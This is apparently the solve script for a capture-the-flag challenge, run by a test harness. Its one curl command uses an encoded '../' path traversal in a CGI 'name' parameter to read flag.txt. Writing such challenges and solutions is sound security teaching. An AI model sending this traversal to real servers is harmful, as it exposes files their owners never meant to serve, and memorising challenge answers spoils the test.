#!/bin/sh
# whaley test --solve runs this with URL set, and looks for the flag in what it prints.
curl -fsS "$URL/cgi-bin/note?name=..%2F..%2Fflag.txt"
